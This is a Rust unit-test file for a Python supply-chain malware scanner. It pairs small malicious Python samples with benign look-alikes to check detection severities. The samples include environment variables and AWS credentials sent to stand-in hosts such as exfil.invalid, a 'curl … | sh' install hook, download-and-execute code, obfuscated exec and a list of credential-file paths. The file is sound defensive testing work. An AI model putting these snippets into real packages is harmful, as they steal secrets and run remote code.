//! Unit tests of the Python rules: for each rule a small malicious sample and the benign
//! look-alikes (B1, B3, B4, B5, B6) that must stay below Medium; and the bounds (syntax errors,
//! deep nesting, a huge line, bytes that are not UTF-8).

use super::{SourceRole, SourceScan, scan_source};
use crate::model::{Capability, Rule, ScanLimits, Severity};

/// Every sample is scanned with and without the lexical prefilter: both must agree.
fn scan_as(path: &str, src: &str, role: SourceRole) -> SourceScan {
    let limits = ScanLimits::default();
    let s = scan_source(path, src.as_bytes(), role, &limits);
    let full = super::scan_source_with(path, src.as_bytes(), role, &limits, false);
    assert_eq!(s, full, "the prefilter changed the scan of {src}");
    s
}

fn scan(src: &str) -> SourceScan {
    scan_as("pkg/mod.py", src, SourceRole::Module)
}

/// The finding of `rule` on `line`, failing with the whole scan when there is none.
fn finding(s: &SourceScan, rule: Rule, line: u32) -> &crate::model::Finding {
    s.findings
        .iter()
        .find(|f| f.rule == rule && f.line == Some(line))
        .unwrap_or_else(|| panic!("no {rule} on line {line}: {:#?}", s.findings))
}

fn assert_finding(s: &SourceScan, rule: Rule, severity: Severity, line: u32, snippet: &str) {
    let f = finding(s, rule, line);
    assert_eq!(f.severity, severity, "{f:#?}");
    assert_eq!(f.snippet, snippet, "{f:#?}");
    assert_eq!(f.path, "pkg/mod.py");
}

/// No finding at Medium or above.
fn assert_quiet(s: &SourceScan) {
    let loud: Vec<_> = s
        .findings
        .iter()
        .filter(|f| f.severity >= Severity::Medium)
        .collect();
    assert!(loud.is_empty(), "unexpected findings: {loud:#?}");
}

#[test]
fn m1_ctx_shape_environment_encoded_and_sent() {
    let src = r#"import base64
import requests
from os import environ


class Ctx(dict):
    def __init__(self):
        string = ""
        for _, value in environ.items():
            string += value + " "
        message_bytes = string.encode("ascii")
        encoded = base64.b64encode(message_bytes).decode("ascii")
        requests.get("https://exfil.invalid/hacked/" + encoded)
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::EnvExfiltration,
        Severity::High,
        13,
        r#"requests.get("https://exfil.invalid/hacked/" + encoded)"#,
    );
    for c in [
        Capability::EnvironmentRead,
        Capability::Encoding,
        Capability::Network,
    ] {
        assert!(
            s.capabilities.contains(&c),
            "{c} missing: {:?}",
            s.capabilities
        );
    }
}

#[test]
fn m1_two_aws_keys_through_self_attributes() {
    let src = r#"import os, base64, urllib.request as ur
class C:
    def __init__(self):
        self.blob = base64.b64encode(
            (os.environ["AWS_ACCESS_KEY_ID"] + ":" + os.getenv("AWS_SECRET_ACCESS_KEY")).encode())
    def send(self):
        ur.urlopen(f"http://127.0.0.1:9/?q={self.blob.decode()}")
"#;
    let s = scan(src);
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 7).severity,
        Severity::High
    );
}

#[test]
fn m1_through_a_helper_function() {
    let src = r#"import os, json, base64, socket
def collect():
    return base64.b64encode(json.dumps(dict(os.environ)).encode())
def send():
    s = socket.socket()
    s.connect(("127.0.0.1", 9))
    s.sendall(collect())
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::EnvExfiltration,
        Severity::High,
        7,
        "s.sendall(collect())",
    );
}

#[test]
fn b3_proxy_settings_from_environment_are_not_exfiltration() {
    let src = r#"import os, getpass, logging, requests
log = logging.getLogger(__name__)

def fetch(url):
    proxies = {"https": os.environ.get("HTTPS_PROXY")}
    bundle = os.environ["REQUESTS_CA_BUNDLE"]
    log.info("fetching as %s", getpass.getuser())
    return requests.get(url, proxies=proxies, verify=bundle, timeout=10)

def basic(user, password):
    import base64
    token = base64.b64encode(f"{user}:{password}".encode())
    return requests.get("https://example.org", headers={"Authorization": token})
"#;
    let s = scan(src);
    assert_quiet(&s);
    assert!(s.capabilities.contains(&Capability::EnvironmentRead));
    assert!(s.capabilities.contains(&Capability::Network));
}

#[test]
fn m3_decode_fed_to_exec() {
    let src = r#"import base64, marshal, zlib
from base64 import b64decode as d
exec(base64.b64decode("cHJpbnQoMSk="))
exec(marshal.loads(zlib.decompress(b"x")))
payload = d(DATA)
code = payload.decode()
__import__("builtins").exec(code)
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::DecodeExec,
        Severity::High,
        3,
        r#"exec(base64.b64decode("cHJpbnQoMSk="))"#,
    );
    assert_finding(
        &s,
        Rule::DecodeExec,
        Severity::High,
        4,
        r#"exec(marshal.loads(zlib.decompress(b"x")))"#,
    );
    assert_finding(
        &s,
        Rule::DecodeExec,
        Severity::High,
        7,
        r#"__import__("builtins").exec(code)"#,
    );
    assert!(s.capabilities.contains(&Capability::DecodeToCode));
    assert!(s.capabilities.contains(&Capability::DynamicCode));
}

#[test]
fn b1_setup_py_version_exec_is_benign() {
    let src = r#"from setuptools import setup
about = {}
exec(open("pkg/_version.py").read(), about)
with open("pkg/__init__.py") as f:
    for line in f:
        if line.startswith("__version__"):
            version = eval(line.split("=")[1])
setup(name="pkg", version=about["__version__"])
"#;
    let s = scan_as("setup.py", src, SourceRole::SetupPy);
    assert!(s.findings.is_empty(), "{:#?}", s.findings);
    assert!(!s.capabilities.contains(&Capability::DynamicCode));
}

#[test]
fn b6_decoded_image_written_to_disk_is_benign() {
    let src = r#"import base64
ICON = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
def write_icon(path):
    with open(path, "wb") as f:
        f.write(base64.b64decode(ICON))
def cert():
    return base64.b64decode(CERT_DER)
"#;
    let s = scan(src);
    assert_quiet(&s);
    assert!(s.capabilities.contains(&Capability::Encoding));
    assert!(!s.capabilities.contains(&Capability::DecodeToCode));
}

#[test]
fn m4_download_chmod_start() {
    let src = r#"import os, subprocess, urllib.request
def go():
    path = "/tmp/x"
    urllib.request.urlretrieve("http://127.0.0.1:9/x", path)
    os.chmod(path, 0o755)
    subprocess.Popen([path])
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::DownloadExecute,
        Severity::High,
        5,
        "os.chmod(path, 0o755)",
    );
    assert_finding(
        &s,
        Rule::DownloadExecute,
        Severity::High,
        6,
        "subprocess.Popen([path])",
    );
    assert!(s.capabilities.contains(&Capability::FileWrite));
    assert!(s.capabilities.contains(&Capability::ProcessSpawn));
}

#[test]
fn m4_fetched_code_executed() {
    let s = scan("import requests\nexec(requests.get('http://127.0.0.1:9/p').text)\n");
    assert_eq!(
        finding(&s, Rule::DownloadExecute, 2).severity,
        Severity::High
    );
    let src = "import socket\ndef f():\n    s = socket.create_connection(('h.invalid', 9))\n    code = s.recv(65536)\n    exec(code)\n";
    let s = scan(src);
    let f = finding(&s, Rule::DownloadExecute, 5);
    assert_eq!(
        (f.severity, f.snippet.as_str()),
        (Severity::High, "exec(code)")
    );
}

#[test]
fn m4_unrelated_download_and_process_are_quiet() {
    let src = r#"import subprocess, urllib.request
def go():
    urllib.request.urlretrieve("https://example.org/data.csv", "data.csv")
    subprocess.run(["git", "status"])
"#;
    assert_quiet(&scan(src));
}

#[test]
fn m5_pth_lines() {
    let limits = ScanLimits::default();
    let bad = "import os, subprocess; subprocess.Popen(['python', '-c', 'print(1)'])";
    let s = scan_source("zzz.pth", bad.as_bytes(), SourceRole::PthLine, &limits);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule == Rule::ExecutablePth)
        .expect("M5 finding");
    assert_eq!(
        (f.severity, f.line, f.snippet.as_str()),
        (Severity::High, Some(1), bad)
    );
    assert!(s.capabilities.contains(&Capability::ExecutablePth));

    let b64 = "import base64;exec(base64.b64decode('cHJpbnQoMSk='))";
    let s = scan_source(
        "litellm_init.pth",
        b64.as_bytes(),
        SourceRole::PthLine,
        &limits,
    );
    assert!(
        s.findings
            .iter()
            .any(|f| f.rule == Rule::ExecutablePth && f.severity == Severity::High)
    );

    // B4: setuptools' own executable .pth line.
    let b4 = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ";
    let s = scan_source(
        "distutils-precedence.pth",
        b4.as_bytes(),
        SourceRole::PthLine,
        &limits,
    );
    assert!(s.capabilities.contains(&Capability::ExecutablePth));
    assert_quiet(&s);
    // A path line is not executable.
    let s = scan_source("x.pth", b"/opt/lib/site", SourceRole::PthLine, &limits);
    assert!(s.capabilities.is_empty() && s.findings.is_empty());
}

#[test]
fn m6_shady_endpoints_in_code() {
    let src = r#"import requests
HOOK = "https://webhook.site/1234"
def send(data):
    requests.post(HOOK, data=data)
def other():
    return "http://45.9.148.10/payload"
BOT = "https://api.telegram.org/bot123:abc/sendMessage"
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::ShadyEndpoint,
        Severity::High,
        2,
        r#"HOOK = "https://webhook.site/1234""#,
    );
    assert_finding(
        &s,
        Rule::ShadyEndpoint,
        Severity::Medium,
        6,
        r#"return "http://45.9.148.10/payload""#,
    );
    // a messaging platform's bot API: legitimate integrations call it (tqdm.contrib.telegram)
    assert_eq!(
        finding(&s, Rule::ShadyEndpoint, 7).severity,
        Severity::Medium
    );
}

#[test]
fn b5_benign_urls_comments_docstrings_and_tests() {
    let src = r#""""Post to https://webhook.site/abc when done."""
import requests
# see http://45.9.148.10/x and https://evil.xyz
def f():
    """Example: https://discord.com/api/webhooks/1/x"""
    requests.get("http://127.0.0.1:8000/")
    requests.get("http://192.168.1.10/")
    requests.get("http://169.254.169.254/latest/meta-data/")
    requests.get("http://0.0.0.0:80/")
    return ["http://8.8.8.8", "https://1.1.1.1/dns-query", "http://localhost/", "https://xn--bcher-kva.example/"]
"#;
    let s = scan(src);
    assert!(s.findings.is_empty(), "{:#?}", s.findings);
    let t = scan_as(
        "tests/test_hooks.py",
        "URL = 'https://webhook.site/x'\n",
        SourceRole::Module,
    );
    assert_eq!(t.findings.len(), 1);
    assert_eq!(t.findings[0].severity, Severity::Low);
}

#[test]
fn m6_xyz_host_and_bare_ip_with_socket() {
    let src = r#"import socket
def c():
    s = socket.create_connection(("45.9.148.10", 4444))
    s.sendall(b"x")
    return "cdn.evil.xyz"
"#;
    let s = scan(src);
    assert_eq!(finding(&s, Rule::ShadyEndpoint, 3).severity, Severity::High);
    assert_eq!(finding(&s, Rule::ShadyEndpoint, 5).severity, Severity::High);
    // A version-looking string beside no network is not an address.
    assert!(scan("V = '1.2.3.4'\n").findings.is_empty());
    assert!(scan("SIDE = 'frame.top'\n").findings.is_empty());
}

#[test]
fn m7_credential_file_sent() {
    let src = r#"import os, requests
def steal():
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        data = f.read()
    requests.post("https://exfil.invalid/", data={"c": data})
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::CredentialTheft,
        Severity::High,
        5,
        r#"requests.post("https://exfil.invalid/", data={"c": data})"#,
    );
    assert!(s.capabilities.contains(&Capability::CredentialFileRead));

    let alone = scan("import os\nPATH = os.path.expanduser('~/.pypirc')\n");
    assert_finding(
        &alone,
        Rule::CredentialTheft,
        Severity::Low,
        2,
        "PATH = os.path.expanduser('~/.pypirc')",
    );
    // Prose that mentions a file name is not a path.
    let prose = scan(
        "import requests\ndef f(info):\n    log.info('Authenticating as %s (from .pypirc)', info)\n    requests.get(URL)\n",
    );
    assert!(prose.findings.is_empty(), "{prose:?}");
    assert!(!prose.capabilities.contains(&Capability::CredentialFileRead));
    for path in [
        "C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
        "~/.ssh/id_ed25519",
        ".aws/credentials",
        "/home/u/.mozilla/firefox/p/cookies.sqlite",
        "~/.pypirc",
        "~/.docker/config.json",
        "~/.git-credentials",
        "profile/logins.json",
        "profile/key4.db",
        "Default/Network/Cookies",
        "SELECT host, value FROM cookies",
        "select origin_url from logins",
    ] {
        // Any case, either slash: the quick test before the searches lets every needle by.
        for p in [
            path.to_owned(),
            path.to_ascii_uppercase(),
            path.replace('/', "\\"),
        ] {
            assert!(super::names::is_credential_path(&p), "{p}");
        }
    }
    for text in [
        "cookies",
        "set_cookies",
        "see ~/.pypirc.example",
        "Login Data export",
    ] {
        assert!(!super::names::is_credential_path(text), "{text}");
    }
    // In a comment or docstring it is nothing.
    let doc = scan("\"\"\"Reads ~/.aws/credentials.\"\"\"\n# ~/.ssh/id_rsa\n");
    assert!(
        doc.findings.is_empty() && doc.capabilities.is_empty(),
        "{doc:?}"
    );
}

#[test]
fn m8_silent_process() {
    let src = r#"import subprocess
from subprocess import Popen as P, DEVNULL
P(["x"], stdout=DEVNULL, stderr=DEVNULL, creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)
def later():
    subprocess.Popen(["x"], stdout=subprocess.DEVNULL, start_new_session=True)
def plain():
    subprocess.run(["x"], stdout=subprocess.DEVNULL)
"#;
    let s = scan(src);
    assert_eq!(finding(&s, Rule::SilentProcess, 3).severity, Severity::High);
    assert_finding(
        &s,
        Rule::SilentProcess,
        Severity::Medium,
        5,
        "subprocess.Popen([\"x\"], stdout=subprocess.DEVNULL, start_new_session=True)",
    );
    assert!(!s.findings.iter().any(|f| f.line == Some(7)));
    // In a function of a package's __init__.py it waits for a call: Medium.
    let init = scan_as("pkg/__init__.py", src, SourceRole::Module);
    assert_eq!(
        finding(&init, Rule::SilentProcess, 3).severity,
        Severity::High
    );
    assert_eq!(
        finding(&init, Rule::SilentProcess, 5).severity,
        Severity::Medium
    );
    let setup = scan_as(
        "setup.py",
        &src.replace("P([", "pass\nQ(["),
        SourceRole::SetupPy,
    );
    assert_eq!(
        finding(&setup, Rule::SilentProcess, 6).severity,
        Severity::High
    );
}

#[test]
fn m9_steganography() {
    let src = r#"from PIL import Image
def load(path):
    img = Image.open(path)
    bits = "".join(str(p[0] & 1) for p in img.getdata())
    exec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)))
def tail(data):
    exec(data[data.index(b"IEND") + 8:])
"#;
    let s = scan(src);
    assert_eq!(finding(&s, Rule::Steganography, 5).severity, Severity::High);
    assert_eq!(finding(&s, Rule::Steganography, 7).severity, Severity::High);
    // Reading an image without running anything is quiet.
    assert_quiet(&scan(
        "from PIL import Image\ndef size(p):\n    return Image.open(p).size\n",
    ));
}

#[test]
fn m10_obfuscation() {
    let src = r#"getattr(__import__("o" + "s"), "sys" + "tem")("id")
name = chr(104) + chr(101) + chr(108) + chr(108) + chr(111) + chr(119) + chr(111) + chr(114)
msg = "".join(chr(c) for c in [104, 101, 108, 108, 111, 32, 119, 111, 114])
getattr(self, "visit_" + kind)(node)
"#;
    let s = scan(src);
    let f = finding(&s, Rule::Obfuscation, 1);
    assert_eq!(f.severity, Severity::High);
    assert!(f.message.contains("os.system"), "{f:?}");
    assert!(s.capabilities.contains(&Capability::ProcessSpawn));
    assert_eq!(finding(&s, Rule::Obfuscation, 2).severity, Severity::Medium);
    assert_eq!(finding(&s, Rule::Obfuscation, 3).severity, Severity::Medium);
    assert!(
        !s.findings.iter().any(|f| f.line == Some(4)),
        "{:#?}",
        s.findings
    );
    // A name built by a chr join, fed to getattr on the builtins, importing a computed module.
    let src = r#"NAME = "".join([chr(95), chr(95), chr(105), chr(109), chr(112), chr(111), chr(114), chr(116), chr(95), chr(95)])
mod = getattr(__builtins__, NAME)("".join(chr(c) for c in [115, 117, 98, 112, 114, 111, 99, 101, 115, 115]))
"#;
    let s = scan(src);
    let f = finding(&s, Rule::Obfuscation, 2);
    assert_eq!(f.severity, Severity::High, "{f:?}");
    assert!(f.message.contains("subprocess"), "{f:?}");
    // A constant module name through a variable is an ordinary import.
    assert_quiet(&scan(
        "import importlib\nMOD = 'json'\nm = importlib.import_module(MOD)\n",
    ));
    // A short chr join is ordinary.
    assert_quiet(&scan(
        "SEP = chr(0) + chr(1)\nALPHA = ''.join(chr(i) for i in range(97, 123))\n",
    ));
}

#[test]
fn m2_install_hook_override() {
    let src = r#"import subprocess
from setuptools import setup
from setuptools.command.install import install
from setuptools.command.build_ext import build_ext

def payload():
    subprocess.call("curl http://127.0.0.1:9/x | sh", shell=True)

class PostInstall(install):
    def run(self):
        install.run(self)
        payload()

class BuildExt(build_ext):
    def run(self):
        subprocess.check_call(["make"])
        build_ext.run(self)

setup(name="x", cmdclass={"install": PostInstall, "build_ext": BuildExt})
"#;
    let s = scan_as("setup.py", src, SourceRole::SetupPy);
    let f = finding(&s, Rule::InstallHookOverride, 7);
    assert_eq!(f.severity, Severity::High);
    assert!(f.message.contains("PostInstall"));
    assert!(s.capabilities.contains(&Capability::InstallHook));
    // B2: build_ext never gives M2.
    assert_eq!(
        s.findings
            .iter()
            .filter(|f| f.rule == Rule::InstallHookOverride)
            .count(),
        1
    );

    let quiet = r#"from setuptools import setup
from setuptools.command.develop import develop
class Dev(develop):
    def run(self):
        print("hello")
        develop.run(self)
setup(cmdclass=dict(develop=Dev))
"#;
    let s = scan_as("setup.py", quiet, SourceRole::SetupPy);
    assert!(s.capabilities.contains(&Capability::InstallHook));
    assert!(s.findings.is_empty(), "{:#?}", s.findings);
    let via_dict = "import os\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nclass E(egg_info):\n    def run(self):\n        os.system('id')\nopts = {'name': 'x', 'cmdclass': {'egg_info': E}}\nsetup(**opts)\n";
    let s = scan_as("setup.py", via_dict, SourceRole::SetupPy);
    assert_eq!(
        finding(&s, Rule::InstallHookOverride, 6).severity,
        Severity::High
    );
    let b2 = scan_as(
        "setup.py",
        "from setuptools import setup\nsetup(cmdclass={'build_ext': B, 'sdist': S})\n",
        SourceRole::SetupPy,
    );
    assert!(!b2.capabilities.contains(&Capability::InstallHook));
}

#[test]
fn import_aliases_resolve() {
    let s = scan("import os as o\no.system('id')\n");
    assert!(s.capabilities.contains(&Capability::ProcessSpawn));
    let s = scan("from subprocess import Popen\nPopen(['id'])\n");
    assert!(s.capabilities.contains(&Capability::ProcessSpawn));
    let s = scan("from os import environ\nx = environ['HOME']\n");
    assert!(s.capabilities.contains(&Capability::EnvironmentRead));
    let s = scan("import socket\nsocket.gethostname()\n");
    assert!(s.capabilities.is_empty(), "{:?}", s.capabilities);
    // A comment naming os.system is nothing.
    assert!(scan("# os.system('id')\n").capabilities.is_empty());
}

#[test]
fn capabilities_of_calls() {
    let caps = |src: &str| scan(src).capabilities;
    use Capability::*;
    let cases: [(&str, Option<Capability>); 12] = [
        (
            "import importlib\nimportlib.import_module(name)\n",
            Some(DynamicCode),
        ),
        ("import importlib\nimportlib.import_module('json')\n", None),
        ("import os\ngetattr(os, name)\n", Some(DynamicCode)),
        ("getattr(obj, name)\n", None),
        ("open(p, 'wb').write(b)\n", Some(FileWrite)),
        ("open(p).read()\n", None),
        ("import os\nos.chmod(p, 0o755)\n", Some(FileWrite)),
        (
            "import http.client\nhttp.client.HTTPSConnection('h')\n",
            Some(Network),
        ),
        (
            "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.get(u)\n",
            Some(Network),
        ),
        ("from os import *\nsystem('id')\n", Some(ProcessSpawn)),
        ("import zlib\nzlib.decompress(b)\n", Some(Encoding)),
        ("import marshal\nmarshal.loads(b)\n", Some(DynamicCode)),
    ];
    for (src, want) in cases {
        let got = caps(src);
        match want {
            Some(c) => assert!(got.contains(&c), "{src:?}: {got:?}"),
            None => assert!(got.is_empty(), "{src:?}: {got:?}"),
        }
    }
}

#[test]
fn syntax_errors_still_yield_what_parses() {
    let src = "def broken(:\n    pass\nimport base64\nexec(base64.b64decode('eA=='))\nclass (\n";
    let s = scan(src);
    assert_eq!(finding(&s, Rule::DecodeExec, 4).severity, Severity::High);
}

#[test]
fn deep_nesting_is_bounded() {
    let depth = 100_000;
    let src = format!(
        "x = {}1{}\nimport os\nos.system('id')\n",
        "(".repeat(depth),
        ")".repeat(depth)
    );
    let start = std::time::Instant::now();
    let s = scan(&src);
    assert!(start.elapsed() < std::time::Duration::from_secs(10));
    assert!(s.capabilities.contains(&Capability::ProcessSpawn), "{s:?}");
    // Unbalanced, and nested calls.
    let src = format!("exec({}\n", "f(".repeat(depth));
    let _ = scan(&src);
    let src = format!("a = {}\n", "[".repeat(depth));
    let _ = scan(&src);
}

#[test]
fn analysis_budget_is_noted() {
    let src = "import os\nos.system('id')\n".repeat(50);
    let tree = super::parse(&src, crate::budget::Budget::new(super::PARSE_TIME)).expect("parses");
    let limits = ScanLimits::default();
    let mut out = super::Out::new("pkg/mod.py", &src, &limits);
    let deadline = crate::budget::Budget::new(std::time::Duration::from_secs(5));
    assert!(super::rules::analyse(
        &tree,
        &src,
        SourceRole::Module,
        100,
        deadline,
        &mut out
    ));
    let mut out = super::Out::new("pkg/mod.py", &src, &limits);
    assert!(!super::rules::analyse(
        &tree,
        &src,
        SourceRole::Module,
        1 << 20,
        deadline,
        &mut out
    ));
    // One file keeps at most as many findings as an archive does.
    let many = "x = 'http://45.9.148.10/'\nimport socket\nsocket.socket()\n".repeat(500);
    let s = scan(&many);
    assert_eq!(s.findings.len(), limits.max_findings);
}

#[test]
fn huge_line_snippet_is_cut() {
    let src = format!(
        "import base64\nexec(base64.b64decode('{}'))\n",
        "A".repeat(1 << 20)
    );
    let s = scan(&src);
    let f = finding(&s, Rule::DecodeExec, 2);
    assert_eq!(
        f.snippet.chars().count(),
        ScanLimits::default().snippet_chars
    );
    assert!(f.snippet.starts_with("exec(base64.b64decode('AAA"));
}

#[test]
fn non_utf8_bytes_and_size_bound() {
    let mut src = b"import base64\nx = '\xff\xfe\x80'\n".to_vec();
    src.extend_from_slice("exec(base64.b64decode('eA=='))  # é\n".as_bytes());
    let s = scan_source(
        "pkg/mod.py",
        &src,
        SourceRole::Module,
        &ScanLimits::default(),
    );
    assert_eq!(finding(&s, Rule::DecodeExec, 3).severity, Severity::High);

    let limits = ScanLimits {
        max_source_bytes: 8,
        ..ScanLimits::default()
    };
    let s = scan_source(
        "pkg/mod.py",
        b"import os\nos.system('x')\n",
        SourceRole::Module,
        &limits,
    );
    assert_eq!(s, SourceScan::default());
}

/// Scans every `.py` under `$SCAN_DIR` and prints the findings at Medium or above (a manual
/// false-positive check on real code: `SCAN_DIR=… cargo test -p strongroom-scan corpus --
/// --ignored --nocapture`).
#[test]
#[ignore]
fn corpus() {
    let Ok(root) = std::env::var("SCAN_DIR") else {
        return;
    };
    let mut stack = vec![std::path::PathBuf::from(root)];
    let (mut files, mut bytes, mut loud) = (0usize, 0usize, 0usize);
    let start = std::time::Instant::now();
    let mut slowest = (std::time::Duration::ZERO, String::new());
    let mut parse_time = std::time::Duration::ZERO;
    let mut plain_parse = std::time::Duration::ZERO;
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|x| x == "pth") {
                let text = std::fs::read_to_string(&p).unwrap_or_default();
                for line in text.lines().filter(|l| l.starts_with("import")) {
                    let name = p.to_string_lossy().into_owned();
                    let s = scan_source(
                        &name,
                        line.as_bytes(),
                        SourceRole::PthLine,
                        &ScanLimits::default(),
                    );
                    for f in &s.findings {
                        println!(
                            "{:?} {} {}:{} {} | {}",
                            f.severity,
                            f.rule,
                            f.path,
                            f.line.unwrap_or(0),
                            f.message,
                            f.snippet
                        );
                    }
                }
            } else if p.extension().is_some_and(|x| x == "py") {
                let Ok(src) = std::fs::read(&p) else {
                    continue;
                };
                files += 1;
                bytes += src.len();
                let name = p.to_string_lossy().into_owned();
                let role = if name.ends_with("setup.py") {
                    SourceRole::SetupPy
                } else {
                    SourceRole::Module
                };
                let t = std::time::Instant::now();
                let text = String::from_utf8_lossy(&src);
                let _tree = super::parse(&text, crate::budget::Budget::new(super::PARSE_TIME));
                parse_time += t.elapsed();
                let t = std::time::Instant::now();
                let mut parser = tree_sitter::Parser::new();
                parser
                    .set_language(&tree_sitter_python::LANGUAGE.into())
                    .expect("language");
                let _tree = parser.parse(text.as_bytes(), None);
                plain_parse += t.elapsed();
                let t = std::time::Instant::now();
                let s = scan_source(&name, &src, role, &ScanLimits::default());
                if std::env::var("SCAN_ALL").is_ok() {
                    println!("{:?} {name}", t.elapsed());
                }
                if t.elapsed() > slowest.0 {
                    slowest = (t.elapsed(), name.clone());
                }
                let floor = if std::env::var("SCAN_ALL").is_ok() {
                    Severity::Info
                } else {
                    Severity::Medium
                };
                for f in s.findings.iter().filter(|f| f.severity >= floor) {
                    loud += 1;
                    println!(
                        "{:?} {} {}:{} {} | {}",
                        f.severity,
                        f.rule,
                        f.path,
                        f.line.unwrap_or(0),
                        f.message,
                        f.snippet
                    );
                }
            }
        }
    }
    println!(
        "{files} files, {bytes} bytes, {loud} findings >= Medium, {:?} (parsing alone {parse_time:?}, without a callback {plain_parse:?}); slowest {slowest:?}",
        start.elapsed()
    );
}

#[test]
fn m5_exec_of_a_visible_literal_is_medium_and_hidden_code_high() {
    let limits = ScanLimits::default();
    // coverage's a1_coverage.pth: visible code in a literal
    let coverage = "import sys; exec('import os\\nif os.getenv(\"COVERAGE_PROCESS_START\"):\\n import coverage; coverage.process_startup()')";
    let s = scan_source(
        "a1_coverage.pth",
        coverage.as_bytes(),
        SourceRole::PthLine,
        &limits,
    );
    let f = s
        .findings
        .iter()
        .find(|f| f.rule == Rule::ExecutablePth)
        .expect("M5");
    assert_eq!(f.severity, Severity::Medium, "{f:?}");
    // the litellm shape, a literal that names subprocess, and a computed argument: High
    for line in [
        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
        "import os; exec('import subprocess; subprocess.Popen([\"sh\"])')",
        "import os; exec(os.environ['X'])",
    ] {
        let s = scan_source("zzz.pth", line.as_bytes(), SourceRole::PthLine, &limits);
        assert!(
            s.findings
                .iter()
                .any(|f| f.rule == Rule::ExecutablePth && f.severity == Severity::High),
            "{line}: {:#?}",
            s.findings
        );
    }
}

#[test]
fn m4_in_a_legacy_bootstrap_script_is_medium() {
    let src = "from urllib.request import urlopen\nez = {}\nexec(urlopen('https://bootstrap.pypa.io/ez_setup.py').read(), ez)\n";
    let boot = scan_as("bootstrap.py", src, SourceRole::Module);
    assert_eq!(
        finding(&boot, Rule::DownloadExecute, 3).severity,
        Severity::Medium
    );
    let other = scan_as("pkg/loader.py", src, SourceRole::Module);
    assert_eq!(
        finding(&other, Rule::DownloadExecute, 3).severity,
        Severity::High
    );
}

#[test]
fn a_lone_carriage_return_ends_a_line_and_foreign_codings_are_flagged() {
    // Python runs the second statement; tree-sitter alone would see one comment line
    let cr = "# x\rimport os, base64, urllib.request\rurllib.request.urlopen('http://c.invalid/?' + base64.b64encode(str(os.environ).encode()).decode())\r";
    let s = scan(cr);
    assert!(
        s.findings.iter().any(|f| f.rule == Rule::EnvExfiltration),
        "{:#?}",
        s.findings
    );
    for (src, codec) in [
        ("# -*- coding: utf-7 -*-\n#+AAo-import os\n", Some("utf-7")),
        (
            "#!/usr/bin/env python\n# vim: set fileencoding=UTF_16 :\n",
            Some("utf-16"),
        ),
        ("# -*- coding: utf-8 -*-\nx = 1\n", None),
        ("# coding=latin-1\nx = 1\n", None),
        ("x = 1\n# coding: utf-7\n", Some("utf-7")),
        ("x = 1\ny = 2\n# coding: utf-7\n", None),
    ] {
        assert_eq!(super::foreign_coding(src).as_deref(), codec, "{src:?}");
    }
    let s = scan("# -*- coding: utf-7 -*-\n#+AAo-import os\n");
    assert!(
        s.findings
            .iter()
            .any(|f| f.rule == Rule::Obfuscation && f.severity == Severity::High),
        "{:#?}",
        s.findings
    );
}

// RT13-06: indirections that reach the same modules and builtins.

fn caps(s: &SourceScan) -> Vec<Capability> {
    s.capabilities.iter().copied().collect()
}

#[test]
fn m1_through_dunder_import_and_dotted_attribute() {
    let s = scan(
        r#"import base64
s = " ".join(__import__("os").environ.values())
__import__("urllib.request").request.urlopen("https://x.invalid/?q=" + base64.b64encode(s.encode()).decode())
"#,
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 3).severity,
        Severity::High
    );
    assert!(
        s.capabilities.contains(&Capability::Network),
        "{:?}",
        caps(&s)
    );
}

#[test]
fn m1_through_namespace_lookups() {
    for env in [
        r#"sys.modules["os"].__dict__["environ"]"#,
        r#"vars(os)["environ"]"#,
        r#"os.__dict__["environ"]"#,
        r#"sys.modules["os"].environ"#,
    ] {
        let src = format!(
            "import os, sys, base64, requests\ns = \" \".join({env}.values())\nglobals()[\"requests\"].get(\"https://x.invalid/\" + base64.b64encode(s.encode()).decode())\n"
        );
        let s = scan(&src);
        assert_eq!(
            finding(&s, Rule::EnvExfiltration, 3).severity,
            Severity::High,
            "{env}"
        );
        assert!(
            s.capabilities.contains(&Capability::EnvironmentRead),
            "{env}: {:?}",
            caps(&s)
        );
    }
}

#[test]
fn m3_through_builtins_lookups() {
    for exec in [
        r#"sys.modules['builtins'].exec"#,
        r#"__builtins__.__dict__['exec']"#,
        r#"__builtins__['exec']"#,
        r#"vars(builtins)['exec']"#,
    ] {
        let src =
            format!("import sys, base64, builtins\n{exec}(base64.b64decode('cHJpbnQoMSk='))\n");
        let s = scan(&src);
        assert_eq!(
            finding(&s, Rule::DecodeExec, 2).severity,
            Severity::High,
            "{exec}"
        );
        assert!(s.capabilities.contains(&Capability::DynamicCode), "{exec}");
    }
}

#[test]
fn m3_unpickling_decoded_data() {
    for m in ["pickle", "dill", "marshal"] {
        let s = scan(&format!(
            "import base64, {m}\n{m}.loads(base64.b64decode('gASVAAAA'))\n"
        ));
        assert_eq!(
            finding(&s, Rule::DecodeExec, 2).severity,
            Severity::High,
            "{m}"
        );
    }
    let s =
        scan("import base64, pickle\nd = base64.b64decode('gASVAAAA')\nobj = pickle.loads(d)\n");
    assert_eq!(finding(&s, Rule::DecodeExec, 3).severity, Severity::High);
    // Unpickling a file the package wrote, or a queue's answer, is not decode-to-code (anyio);
